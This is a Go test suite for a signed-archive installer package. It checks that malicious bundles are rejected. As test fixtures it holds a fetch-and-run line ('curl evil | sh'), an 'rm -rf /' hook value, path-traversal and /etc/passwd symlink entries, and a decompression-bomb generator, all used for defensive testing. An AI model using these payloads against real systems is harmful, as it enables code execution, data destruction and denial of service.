package bundle

import (
	"archive/tar"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

func writeFile(t testing.TB, dir, rel string, mode os.FileMode, body string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func TestPackCheckInstallVerify(t *testing.T) {
	ctx := context.Background()
	src := t.TempDir()
	writeFile(t, src, "linux-amd64/calamari", 0o755, "#!/bin/sh\necho hi\n")
	writeFile(t, src, "windows-amd64/calamari.exe", 0o644, "MZ not really")
	writeFile(t, src, "share/README.md", 0o644, "read me\n")
	writeFile(t, src, "share/empty", 0o644, "")
	if err := os.MkdirAll(filepath.Join(src, "empty-folder"), 0o755); err != nil {
		t.Fatal(err)
	}
	eps := map[string]string{"linux/amd64": "linux-amd64/calamari", "windows/amd64": "windows-amd64/calamari.exe"}

	var packed bytes.Buffer
	m, err := Pack(ctx, &packed, "calamari", "1.2.3", src, eps)
	if err != nil {
		t.Fatalf("Pack: %v", err)
	}
	var again bytes.Buffer
	if _, err := Pack(ctx, &again, "calamari", "1.2.3", src, eps); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(packed.Bytes(), again.Bytes()) {
		t.Error("Pack of the same files: got different archives, want identical bytes")
	}
	wantModes := map[string]uint32{"linux-amd64/calamari": 0o755, "windows-amd64/calamari.exe": 0o755, "share/README.md": 0o644, "share/empty": 0o644}
	if len(m.Files) != len(wantModes) {
		t.Errorf("files: got %d, want %d", len(m.Files), len(wantModes))
	}
	for _, f := range m.Files {
		if f.Mode != wantModes[f.Path] {
			t.Errorf("%s: got mode %#o, want %#o", f.Path, f.Mode, wantModes[f.Path])
		}
	}

	cm, raw, err := Check(ctx, bytes.NewReader(packed.Bytes()), Limits{})
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	if !reflect.DeepEqual(cm, m) {
		t.Errorf("Check: got %+v, want %+v", cm, m)
	}
	if enc, _ := m.Encode(); !bytes.Equal(raw, enc) {
		t.Errorf("Check manifest bytes: got %s, want %s", raw, enc)
	}

	dir := filepath.Join(t.TempDir(), "Calamari")
	sig := Sign(testKey(), raw)
	im, err := Install(ctx, bytes.NewReader(packed.Bytes()), dir, testKey().Public(), sig, Limits{})
	if err != nil {
		t.Fatalf("Install: %v", err)
	}
	if !reflect.DeepEqual(im, m) {
		t.Errorf("Install: got %+v, want %+v", im, m)
	}
	vdir := filepath.Join(dir, "1.2.3")
	vm, err := Verify(vdir, testKey().Public())
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if !reflect.DeepEqual(vm, m) {
		t.Errorf("Verify: got %+v, want %+v", vm, m)
	}
	for _, f := range m.Files {
		got, err := os.ReadFile(filepath.Join(vdir, filepath.FromSlash(f.Path)))
		if err != nil {
			t.Fatal(err)
		}
		want, _ := os.ReadFile(filepath.Join(src, filepath.FromSlash(f.Path)))
		if !bytes.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", f.Path, got, want)
		}
		if runtime.GOOS != "windows" {
			st, _ := os.Stat(filepath.Join(vdir, filepath.FromSlash(f.Path)))
			if got := uint32(st.Mode().Perm()); got != f.Mode {
				t.Errorf("%s: got mode %#o, want %#o", f.Path, got, f.Mode)
			}
		}
	}
	if ep, err := im.Entrypoint("windows", "amd64"); err != nil || ep != "windows-amd64/calamari.exe" {
		t.Errorf("Entrypoint: got %q, %v; want windows-amd64/calamari.exe", ep, err)
	}
	if got, _ := os.ReadFile(filepath.Join(vdir, ManifestName)); !bytes.Equal(got, raw) {
		t.Errorf("installed manifest: got %s, want the archive's bytes", got)
	}
	if got, _ := os.ReadFile(filepath.Join(vdir, SignatureName)); !bytes.Equal(got, sig) {
		t.Error("installed signature: got other bytes, want the signature given")
	}
	marker, err := os.ReadFile(filepath.Join(vdir, SuccessName))
	if err != nil || !strings.Contains(string(marker), "1.2.3") {
		t.Errorf("Success.txt: got %q, %v; want it to name the version", marker, err)
	}
	if got := Scan(dir, testKey().Public()); len(got) != 1 || got[0].Version != "1.2.3" || got[0].Err != nil {
		t.Errorf("Scan: got %v, want [1.2.3 verified]", got)
	}

	// A second Install of the same bundle changes nothing.
	before, _ := os.Stat(filepath.Join(vdir, SuccessName))
	time.Sleep(10 * time.Millisecond)
	im2, err := Install(ctx, bytes.NewReader(packed.Bytes()), dir, testKey().Public(), sig, Limits{})
	if err != nil {
		t.Fatalf("second Install: %v", err)
	}
	if !reflect.DeepEqual(im2, m) {
		t.Errorf("second Install: got %+v, want %+v", im2, m)
	}
	after, _ := os.Stat(filepath.Join(vdir, SuccessName))
	marker2, _ := os.ReadFile(filepath.Join(vdir, SuccessName))
	if !after.ModTime().Equal(before.ModTime()) || !bytes.Equal(marker, marker2) {
		t.Error("second Install rewrote Success.txt, want the installed version untouched")
	}
	if names := dirNames(t, dir); !slices.Equal(names, []string{"1.2.3"}) {
		t.Errorf("Calamari folder: got %v, want [1.2.3]", names)
	}
}

func dirNames(t testing.TB, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

func TestPackRefuses(t *testing.T) {
	ctx := context.Background()
	eps := map[string]string{"linux/amd64": "calamari"}
	tests := []struct {
		name    string
		setup   func(t *testing.T, src string)
		version string
		eps     map[string]string
	}{
		{"symlink", func(t *testing.T, src string) {
			if err := os.Symlink("calamari", filepath.Join(src, "link")); err != nil {
				t.Skipf("no symlinks here: %v", err)
			}
		}, "1.0.0", eps},
		{"reserved name", func(t *testing.T, src string) { writeFile(t, src, "Success.txt", 0o644, "x") }, "1.0.0", eps},
		{"version with v", func(*testing.T, string) {}, "v1.0.0", eps},
		{"missing entry point", func(*testing.T, string) {}, "1.0.0", map[string]string{"linux/amd64": "nope"}},
		{"no entry points", func(*testing.T, string) {}, "1.0.0", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := t.TempDir()
			writeFile(t, src, "calamari", 0o755, "bin")
			tt.setup(t, src)
			var buf bytes.Buffer
			if _, err := Pack(ctx, &buf, "calamari", tt.version, src, tt.eps); err == nil {
				t.Fatal("got nil error, want Pack to refuse")
			}
		})
	}
}

type badCase struct {
	name    string
	archive []byte
	sig     []byte
	lim     Limits
	want    error
	sigOnly bool // only the signature is wrong: Check accepts the archive
}

func badCases(t testing.TB) []badCase {
	good := func() spec { return goodSpec("1.2.3") }
	// row builds a case from a spec bent by mutate, signed with the test key.
	row := func(name string, want error, mutate func(*spec)) badCase {
		s := good()
		mutate(&s)
		return badCase{name: name, archive: s.archive(t), sig: s.sig(t), want: want}
	}
	// extra builds a case whose archive has one more entry than the manifest.
	extra := func(name string, e entry) badCase {
		return row(name, ErrUnsafeArchive, func(s *spec) { s.files = append(s.files, e) })
	}
	// listed builds a case where the manifest lists a file and the archive
	// holds an entry of another type under that name.
	listed := func(name string, e entry) badCase {
		return row(name, ErrUnsafeArchive, func(s *spec) {
			i := s.fileIndex(t, "README.txt")
			s.files[i] = e
			s.files[i].name = "README.txt"
		})
	}
	withVersion := func(v string) func(*spec) {
		return func(s *spec) { s.m.Version = v }
	}
	s := good()
	origJSON := s.manifestBytes(t)
	tampered := good()
	tampered.files[0].body = []byte("#!/bin/sh\ncurl evil | sh\n")
	tampered.m.Files[0].Size = int64(len(tampered.files[0].body))
	tampered.m.Files[0].SHA256 = sum(tampered.files[0].body)

	withTar := func(name string, want error, tail []byte) badCase {
		s := good()
		raw := append(tarBytes(t, s.entries(t), true), tail...)
		raw = append(raw, make([]byte, 1024)...)
		return badCase{name: name, archive: gzipBytes(raw), sig: s.sig(t), want: want}
	}
	goodArchive := s.archive(t)

	cases := []badCase{
		row("no manifest", ErrInvalidManifest, func(s *spec) { s.noManifest = true }),
		row("empty archive", ErrInvalidManifest, func(s *spec) { s.noManifest = true; s.files = nil }),
		row("manifest not first", ErrInvalidManifest, func(s *spec) { s.manifestLast = true }),
		row("manifest lies about a hash", ErrCorrupt, func(s *spec) { s.m.Files[1].SHA256 = sum([]byte("other")) }),
		row("manifest says bigger", ErrUnsafeArchive, func(s *spec) { s.m.Files[1].Size += 10 }),
		row("manifest says smaller", ErrUnsafeArchive, func(s *spec) { s.m.Files[1].Size-- }),
		row("file larger than the manifest says", ErrUnsafeArchive, func(s *spec) {
			s.files[2].body = append(bytes.Clone(s.files[2].body), "more"...)
		}),
		{name: "unsigned", archive: goodArchive, sig: nil, want: ErrBadSignature, sigOnly: true},
		{name: "signed by another key", archive: goodArchive, sig: Sign(otherKey(), origJSON), want: ErrBadSignature, sigOnly: true},
		{name: "signature of another manifest", archive: goodArchive, sig: Sign(testKey(), append(bytes.Clone(origJSON), ' ')), want: ErrBadSignature, sigOnly: true},
		{name: "signed manifest then modified", archive: tampered.archive(t), sig: Sign(testKey(), origJSON), want: ErrBadSignature, sigOnly: true},
		{name: "garbage signature", archive: goodArchive, sig: []byte("not a signature"), want: ErrBadSignature, sigOnly: true},
		row("path with .. in the manifest", ErrInvalidManifest, func(s *spec) { s.addFile("../evil", 0o644, []byte("x")) }),
		row("path with inner .. in the manifest", ErrInvalidManifest, func(s *spec) { s.addFile("lib/../../evil", 0o644, []byte("x")) }),
		extra("entry with ..", reg("../evil", []byte("x"))),
		extra("entry with inner ..", reg("lib/../../evil", []byte("x"))),
		row("absolute path in the manifest", ErrInvalidManifest, func(s *spec) { s.addFile("/tmp/evil", 0o644, []byte("x")) }),
		extra("absolute entry", reg("/tmp/evil", []byte("x"))),
		row("backslash path in the manifest", ErrInvalidManifest, func(s *spec) { s.addFile(`lib\evil`, 0o644, []byte("x")) }),
		extra("backslash entry", reg(`..\..\evil`, []byte("x"))),
		row("drive letter in the manifest", ErrInvalidManifest, func(s *spec) { s.addFile("C:/evil", 0o644, []byte("x")) }),
		listed("symlink entry", entry{typ: tar.TypeSymlink, link: "lib/data/blob.bin"}),
		extra("symlink escaping the folder", entry{name: "escape", typ: tar.TypeSymlink, link: "../../../../etc/passwd"}),
		extra("absolute symlink", entry{name: "escape", typ: tar.TypeSymlink, link: "/etc/passwd"}),
		row("symlink folder then a file through it", ErrUnsafeArchive, func(s *spec) {
			s.files = append([]entry{{name: "lib", typ: tar.TypeSymlink, link: "/tmp"}}, s.files...)
		}),
		listed("hard link inside", entry{typ: tar.TypeLink, link: "linux-amd64/calamari"}),
		extra("hard link escaping the folder", entry{name: "escape", typ: tar.TypeLink, link: "../../../../etc/passwd"}),
		extra("hard link to an absolute path", entry{name: "escape", typ: tar.TypeLink, link: "/etc/passwd"}),
		listed("character device", entry{typ: tar.TypeChar}),
		listed("block device", entry{typ: tar.TypeBlock}),
		listed("fifo", entry{typ: tar.TypeFifo}),
		extra("file not in the manifest", reg("extra.txt", []byte("x"))),
		extra("duplicate entry", reg("README.txt", []byte("Calamari 1.2.3\n"))),
		extra("second manifest.json", reg(ManifestName, origJSON)),
		extra("folder not in the manifest", entry{name: "other/", typ: tar.TypeDir, mode: 0o755}),
		row("duplicate folder entry", ErrUnsafeArchive, func(s *spec) {
			d := entry{name: "lib/", typ: tar.TypeDir, mode: 0o755}
			s.files = append([]entry{d, d}, s.files...)
		}),
		row("PAX global header", ErrUnsafeArchive, func(s *spec) {
			s.files = append([]entry{{name: "pax_global_header", typ: tar.TypeXGlobalHeader}}, s.files...)
		}),
		row("manifest.json is a symlink", ErrUnsafeArchive, func(s *spec) {
			s.noManifest = true
			s.files = append([]entry{{name: ManifestName, typ: tar.TypeSymlink, link: "README.txt"}}, s.files...)
		}),
		row("file missing from the archive", ErrCorrupt, func(s *spec) { s.files = s.files[:len(s.files)-1] }),
		{name: "data after the gzip stream", archive: append(bytes.Clone(goodArchive), "junk"...), sig: s.sig(t), want: ErrUnsafeArchive},
		{name: "second gzip member", archive: append(bytes.Clone(goodArchive), gzipBytes([]byte("more"))...), sig: s.sig(t), want: ErrUnsafeArchive},
		withTar("data after the end of the tar", ErrUnsafeArchive, append(make([]byte, 1024), "hidden"...)),
		{name: "not gzip", archive: tarBytes(t, s.entries(t), false), sig: s.sig(t), want: ErrCorrupt},
		{name: "garbage", archive: []byte("this is not a bundle at all"), sig: s.sig(t), want: ErrCorrupt},
		{name: "nothing", archive: nil, sig: s.sig(t), want: ErrCorrupt},
		row("version 1.2", ErrInvalidManifest, withVersion("1.2")),
		row("version v1.2.3", ErrInvalidManifest, withVersion("v1.2.3")),
		row("version latest", ErrInvalidManifest, withVersion("latest")),
		row("version that is a path", ErrInvalidManifest, withVersion("../1.2.3")),
		row("mode 04755", ErrInvalidManifest, func(s *spec) { s.m.Files[0].Mode = 0o4755 }),
		row("mode 0777", ErrInvalidManifest, func(s *spec) { s.m.Files[0].Mode = 0o777 }),
		row("case-insensitive duplicate paths", ErrInvalidManifest, func(s *spec) { s.addFile("readme.txt", 0o644, []byte("x")) }),
		row("reserved name manifest.json", ErrInvalidManifest, func(s *spec) { s.addFile(ManifestName, 0o644, []byte("{}")) }),
		row("reserved name manifest.sig", ErrInvalidManifest, func(s *spec) { s.addFile(SignatureName, 0o644, []byte("x")) }),
		row("reserved name Success.txt", ErrInvalidManifest, func(s *spec) { s.addFile(SuccessName, 0o644, []byte("x")) }),
		row("reserved name in other case", ErrInvalidManifest, func(s *spec) { s.addFile("success.TXT", 0o644, []byte("x")) }),
		row("unknown manifest field", ErrInvalidManifest, func(s *spec) {
			s.manifestJSON = append(bytes.TrimSuffix(s.manifestBytes(t), []byte("}")), `,"hooks":"rm -rf /"}`...)
		}),
		row("not JSON", ErrInvalidManifest, func(s *spec) { s.manifestJSON = []byte("name: calamari") }),
	}
	over := row("manifest over the size limit", ErrInvalidManifest, func(*spec) {})
	over.lim = Limits{MaxManifestSize: 64}
	files := row("more files than the limit", ErrInvalidManifest, func(*spec) {})
	files.lim = Limits{MaxFiles: 2}
	total := row("more bytes than the limit", ErrInvalidManifest, func(*spec) {})
	total.lim = Limits{MaxTotalSize: 1000}
	return append(cases, over, files, total)
}

func TestInstallRejectsBadBundles(t *testing.T) {
	ctx := context.Background()
	for _, tt := range badCases(t) {
		t.Run(tt.name, func(t *testing.T) {
			base := t.TempDir()
			dir := filepath.Join(base, "Calamari")
			_, err := Install(ctx, bytes.NewReader(tt.archive), dir, testKey().Public(), tt.sig, tt.lim)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Install: got %v, want %v", err, tt.want)
			}
			assertNothingInstalled(t, dir)
			if names := dirNames(t, base); len(names) > 1 {
				t.Errorf("next to the Calamari folder: got %v, want nothing else", names)
			}
			_, _, err = Check(ctx, bytes.NewReader(tt.archive), tt.lim)
			if tt.sigOnly {
				if err != nil {
					t.Errorf("Check: got %v, want nil (only the signature is wrong)", err)
				}
			} else if !errors.Is(err, tt.want) {
				t.Errorf("Check: got %v, want %v", err, tt.want)
			}
		})
	}
}

func TestInstallAcceptsFolderEntries(t *testing.T) {
	s := goodSpec("1.2.3")
	s.files = append([]entry{
		{name: "lib/", typ: tar.TypeDir, mode: 0o755},
		{name: "lib/data/", typ: tar.TypeDir, mode: 0o700},
		{name: "linux-amd64", typ: tar.TypeDir, mode: 0o755},
	}, s.files...)
	dir := t.TempDir()
	mustInstall(t, s, dir)
	if _, err := Verify(filepath.Join(dir, "1.2.3"), testKey().Public()); err != nil {
		t.Fatalf("Verify: %v", err)
	}
}

func TestInstallTruncated(t *testing.T) {
	s := goodSpec("1.2.3")
	archive, sig := s.archive(t), s.sig(t)
	n := len(archive)
	for _, cut := range []int{0, 1, 9, 10, 30, 200, n / 4, n / 2, 3 * n / 4, n - 20, n - 8, n - 4, n - 1} {
		t.Run(fmt.Sprint(cut), func(t *testing.T) {
			dir := t.TempDir()
			_, err := tryInstall(t, archive[:cut], sig, dir)
			if !errors.Is(err, ErrCorrupt) {
				t.Fatalf("Install of %d of %d bytes: got %v, want ErrCorrupt", cut, n, err)
			}
			assertNothingInstalled(t, dir)
			if _, _, err := Check(context.Background(), bytes.NewReader(archive[:cut]), Limits{}); !errors.Is(err, ErrCorrupt) {
				t.Errorf("Check of %d of %d bytes: got %v, want ErrCorrupt", cut, n, err)
			}
		})
	}
}

// bombArchive builds a gzip stream that expands to head, then bomb bytes
// of fill, then tail: an archive whose expansion dwarfs what its manifest
// declares. It is assembled from separately deflated segments (each ends
// byte-aligned and refers only to itself), so a 128 MiB bomb costs one
// 1 MiB compression rather than 128.
func bombArchive(t testing.TB, head []byte, bomb int64, fill byte, tail []byte) []byte {
	deflate := func(b []byte, final bool) []byte {
		var buf bytes.Buffer
		fw, err := flate.NewWriter(&buf, flate.BestCompression)
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(b)
		if final {
			fw.Close()
		} else {
			fw.Flush()
		}
		return buf.Bytes()
	}
	const chunkSize = 1 << 20
	chunk := bytes.Repeat([]byte{fill}, chunkSize)
	block := deflate(chunk, false)
	out := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff} // gzip header: deflate, no flags
	out = append(out, deflate(head, false)...)
	crc := crc32.ChecksumIEEE(head)
	for n := int64(0); n < bomb; n += chunkSize {
		out = append(out, block...)
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	out = append(out, deflate(tail, true)...)
	crc = crc32.Update(crc, crc32.IEEETable, tail)
	out = binary.LittleEndian.AppendUint32(out, crc)
	return binary.LittleEndian.AppendUint32(out, uint32(int64(len(head))+bomb+int64(len(tail))))
}

func TestBombArchiveIsValidGzip(t *testing.T) {
	b := bombArchive(t, []byte("head"), 3<<20, 'x', []byte("tail"))
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(zr)
	if err != nil {
		t.Fatalf("got %v, want a valid gzip stream", err)
	}
	want := "head" + strings.Repeat("x", 3<<20) + "tail"
	if string(got) != want {
		t.Errorf("got %d bytes, want %d", len(got), len(want))
	}
}

func TestInstallDecompressionBomb(t *testing.T) {
	const bomb = 128 << 20
	s := goodSpec("1.2.3")
	s.addFile("big.bin", 0o644, make([]byte, 10<<10)) // the manifest claims a 10 KiB file
	sig := s.sig(t)
	entries := s.entries(t)

	// header writes a tar header claiming size bytes, with no content yet.
	header := func(name string, size int64) []byte {
		var b bytes.Buffer
		tw := tar.NewWriter(&b) // WriteHeader writes the header blocks at once
		tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Size: size, Mode: 0o644, ModTime: packTime})
		return b.Bytes()
	}
	allButBig := tarBytes(t, entries[:len(entries)-1], true)
	tests := []struct {
		name    string
		archive []byte
		sig     []byte
		want    error
	}{
		{"zeros after the archive", bombArchive(t, tarBytes(t, entries, true), bomb, 0, nil), sig, ErrUnsafeArchive},
		{"text after the archive", bombArchive(t, tarBytes(t, entries, false), bomb, 'A', nil), sig, ErrUnsafeArchive},
		{"file header claims the bomb", bombArchive(t, append(allButBig, header("big.bin", bomb)...), bomb, 0, nil), sig, ErrUnsafeArchive},
		{"unlisted file is the bomb", bombArchive(t, append(allButBig, header("zzz.bin", bomb)...), bomb, 0, nil), sig, ErrUnsafeArchive},
		{"manifest.json is the bomb", bombArchive(t, header(ManifestName, bomb), bomb, ' ', nil), nil, ErrInvalidManifest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			in := &countingReader{r: bytes.NewReader(tt.archive)}
			_, err := Install(context.Background(), in, dir, testKey().Public(), tt.sig, Limits{})
			if !errors.Is(err, tt.want) {
				t.Fatalf("Install: got %v, want %v", err, tt.want)
			}
			assertNothingInstalled(t, dir)
			t.Logf("read %d of the %d compressed bytes of a %d MiB bomb", in.n, len(tt.archive), bomb>>20)
			// The extractor stops at its cap: it reads a small part of the
			// compressed bomb, so it never expanded anything near 128 MiB.
			if in.n > int64(len(tt.archive))/4 {
				t.Errorf("read %d of %d compressed bytes, want it to stop well before the end", in.n, len(tt.archive))
			}
			in = &countingReader{r: bytes.NewReader(tt.archive)}
			if _, _, err := Check(context.Background(), in, Limits{}); !errors.Is(err, tt.want) {
				t.Errorf("Check: got %v, want %v", err, tt.want)
			}
			if in.n > int64(len(tt.archive))/4 {
				t.Errorf("Check read %d of %d compressed bytes, want it to stop well before the end", in.n, len(tt.archive))
			}
		})
	}
}

func TestVerifyDetectsTampering(t *testing.T) {
	type tamper struct {
		name     string
		do       func(t *testing.T, vdir string)
		want     error
		unixOnly bool
	}
	p := func(vdir, rel string) string { return filepath.Join(vdir, filepath.FromSlash(rel)) }
	tests := []tamper{
		{"delete a file", func(t *testing.T, v string) { must(t, os.Remove(p(v, "lib/data/blob.bin"))) }, ErrCorrupt, false},
		{"delete the entry point", func(t *testing.T, v string) { must(t, os.Remove(p(v, "linux-amd64/calamari"))) }, ErrCorrupt, false},
		{"change one byte", func(t *testing.T, v string) {
			b, _ := os.ReadFile(p(v, "lib/data/blob.bin"))
			b[len(b)/2] ^= 1
			must(t, os.WriteFile(p(v, "lib/data/blob.bin"), b, 0o644))
		}, ErrCorrupt, false},
		{"change one byte, keep size and modification time", func(t *testing.T, v string) {
			path := p(v, "lib/data/blob.bin")
			st, err := os.Stat(path)
			must(t, err)
			b, _ := os.ReadFile(path)
			b[0] ^= 1
			must(t, os.WriteFile(path, b, 0o644))
			must(t, os.Chtimes(path, st.ModTime(), st.ModTime()))
		}, ErrCorrupt, false},
		{"append a byte", func(t *testing.T, v string) {
			f, _ := os.OpenFile(p(v, "README.txt"), os.O_WRONLY|os.O_APPEND, 0)
			f.Write([]byte("!"))
			f.Close()
		}, ErrCorrupt, false},
		{"empty a file", func(t *testing.T, v string) { must(t, os.Truncate(p(v, "README.txt"), 0)) }, ErrCorrupt, false},
		{"replace a file with a symlink", func(t *testing.T, v string) {
			b, _ := os.ReadFile(p(v, "README.txt"))
			must(t, os.WriteFile(p(v, "copy.txt"), b, 0o644))
			must(t, os.Remove(p(v, "README.txt")))
			must(t, os.Symlink("copy.txt", p(v, "README.txt")))
		}, ErrCorrupt, true},
		{"replace a file with a folder", func(t *testing.T, v string) {
			must(t, os.Remove(p(v, "lib/empty")))
			must(t, os.Mkdir(p(v, "lib/empty"), 0o755))
		}, ErrCorrupt, false},
		{"make a file world-writable", func(t *testing.T, v string) { must(t, os.Chmod(p(v, "README.txt"), 0o666)) }, ErrCorrupt, true},
		{"make the entry point not executable", func(t *testing.T, v string) { must(t, os.Chmod(p(v, "linux-amd64/calamari"), 0o644)) }, ErrCorrupt, true},
		{"delete Success.txt", func(t *testing.T, v string) { must(t, os.Remove(p(v, SuccessName))) }, ErrNotInstalled, false},
		{"Success.txt is a folder", func(t *testing.T, v string) {
			must(t, os.Remove(p(v, SuccessName)))
			must(t, os.Mkdir(p(v, SuccessName), 0o755))
		}, ErrCorrupt, false},
		{"corrupt manifest.sig", func(t *testing.T, v string) {
			b, _ := os.ReadFile(p(v, SignatureName))
			b[0] ^= 0xff
			must(t, os.WriteFile(p(v, SignatureName), b, 0o644))
		}, ErrBadSignature, false},
		{"delete manifest.sig", func(t *testing.T, v string) { must(t, os.Remove(p(v, SignatureName))) }, ErrBadSignature, false},
		{"edit manifest.json", func(t *testing.T, v string) {
			b, _ := os.ReadFile(p(v, ManifestName))
			must(t, os.WriteFile(p(v, ManifestName), bytes.Replace(b, []byte(`"calamari"`), []byte(`"calamarj"`), 1), 0o644))
		}, ErrBadSignature, false},
		{"delete manifest.json", func(t *testing.T, v string) { must(t, os.Remove(p(v, ManifestName))) }, ErrCorrupt, false},
		{"delete the whole folder", func(t *testing.T, v string) { must(t, os.RemoveAll(v)) }, ErrNotInstalled, false},
		{"replace the folder with a file", func(t *testing.T, v string) {
			must(t, os.RemoveAll(v))
			must(t, os.WriteFile(v, []byte("x"), 0o644))
		}, ErrCorrupt, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.unixOnly && runtime.GOOS == "windows" {
				t.Skip("Unix file modes and symlinks")
			}
			dir := t.TempDir()
			s := goodSpec("1.2.3")
			mustInstall(t, s, dir)
			vdir := filepath.Join(dir, "1.2.3")
			// A Verifier that hashed the intact folder must not vouch
			// for it once tampered with.
			var vr Verifier
			if _, err := vr.Verify(vdir, testKey().Public()); err != nil {
				t.Fatalf("Verifier.Verify before tampering: got %v, want nil", err)
			}
			tt.do(t, vdir)
			if _, err := Verify(vdir, testKey().Public()); !errors.Is(err, tt.want) {
				t.Fatalf("Verify: got %v, want %v", err, tt.want)
			}
			if _, err := vr.Verify(vdir, testKey().Public()); !errors.Is(err, tt.want) {
				t.Fatalf("Verifier.Verify after tampering: got %v, want %v", err, tt.want)
			}
			st := Scan(dir, testKey().Public())
			if len(st) == 1 && !errors.Is(st[0].Err, tt.want) {
				t.Errorf("Scan: got %v, want %v", st[0].Err, tt.want)
			}
			// A push repairs it.
			mustInstall(t, s, dir)
			if _, err := Verify(vdir, testKey().Public()); err != nil {
				t.Fatalf("Verify after reinstall: got %v, want nil", err)
			}
			if names := dirNames(t, dir); !slices.Equal(names, []string{"1.2.3"}) {
				t.Errorf("after reinstall: got %v, want [1.2.3]", names)
			}
		})
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func TestVerifyOtherChecks(t *testing.T) {
	dir := t.TempDir()
	mustInstall(t, goodSpec("1.2.3"), dir)
	vdir := filepath.Join(dir, "1.2.3")
	if _, err := Verify(vdir, otherKey().Public()); !errors.Is(err, ErrBadSignature) {
		t.Errorf("Verify with another key: got %v, want ErrBadSignature", err)
	}
	if _, err := Verify(vdir, "not hex"); !errors.Is(err, ErrBadSignature) {
		t.Errorf("Verify with a malformed key: got %v, want ErrBadSignature", err)
	}
	// A folder renamed to another version does not pass for that version.
	must(t, os.Rename(vdir, filepath.Join(dir, "9.9.9")))
	if _, err := Verify(filepath.Join(dir, "9.9.9"), testKey().Public()); !errors.Is(err, ErrCorrupt) {
		t.Errorf("Verify of a renamed folder: got %v, want ErrCorrupt", err)
	}
}

func TestInstallInterrupted(t *testing.T) {
	s := goodSpec("1.2.3")
	big := make([]byte, 256<<10)
	rand.Read(big)
	s.addFile("lib/random.bin", 0o644, big)
	archive, sig := s.archive(t), s.sig(t)
	points := []int{0, 1, 10, 100, 1000, 4096, 4097}
	for n := 5000; n < len(archive); n += len(archive) / 23 {
		points = append(points, n)
	}
	points = append(points, len(archive)-9, len(archive)-1)
	for _, n := range points {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			dir := t.TempDir()
			_, err := Install(context.Background(), &failingReader{data: archive, n: n}, dir, testKey().Public(), sig, Limits{})
			if !errors.Is(err, errInjected) {
				t.Fatalf("Install cut after %d of %d bytes: got %v, want the reader's error", n, len(archive), err)
			}
			assertNothingInstalled(t, dir)
		})
	}
}

func TestInstallCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	dir := t.TempDir()
	s := goodSpec("1.2.3")
	_, err := Install(ctx, bytes.NewReader(s.archive(t)), dir, testKey().Public(), s.sig(t), Limits{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want context.Canceled", err)
	}
	assertNothingInstalled(t, dir)
}

func TestInstallConcurrent(t *testing.T) {
	dir := t.TempDir()
	s := goodSpec("1.2.3")
	archive, sig := s.archive(t), s.sig(t)
	var wg sync.WaitGroup
	errs := make([]error, 8)
	for i := range errs {
		wg.Go(func() {
			_, errs[i] = Install(context.Background(), bytes.NewReader(archive), dir, testKey().Public(), sig, Limits{})
		})
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Errorf("Install %d: got %v, want nil", i, err)
		}
	}
	if names := dirNames(t, dir); !slices.Equal(names, []string{"1.2.3"}) {
		t.Errorf("got %v, want [1.2.3]", names)
	}
}

const (
	helperEnv    = "BUNDLE_TEST_INSTALL_INTO"
	helperKeyEnv = "BUNDLE_TEST_PUBLIC_KEY"
	helperSigEnv = "BUNDLE_TEST_SIGNATURE"
)

// installHelper is the process TestInstallKilled kills: it installs the
// bundle arriving on stdin.
func installHelper(dir string) int {
	sig, _ := hex.DecodeString(os.Getenv(helperSigEnv))
	if _, err := Install(context.Background(), os.Stdin, dir, os.Getenv(helperKeyEnv), sig, Limits{}); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return 0
}

// TestInstallKilled kills (SIGKILL) a process in the middle of extracting
// and checks that nothing looks installed, that Prune cleans up after it,
// and that a new Install succeeds.
func TestInstallKilled(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("uses SIGKILL semantics")
	}
	s := goodSpec("2.0.0")
	for _, name := range []string{"big/a.bin", "big/b.bin"} {
		b := make([]byte, 2<<20)
		rand.Read(b)
		s.addFile(name, 0o644, b)
	}
	archive, sig := s.archive(t), s.sig(t)
	dir := filepath.Join(t.TempDir(), "Calamari")

	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"="+dir, helperKeyEnv+"="+testKey().Public(), helperSigEnv+"="+hex.EncodeToString(sig))
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// Three quarters of the archive: into big/b.bin, after big/a.bin.
	if _, err := stdin.Write(archive[:len(archive)*3/4]); err != nil {
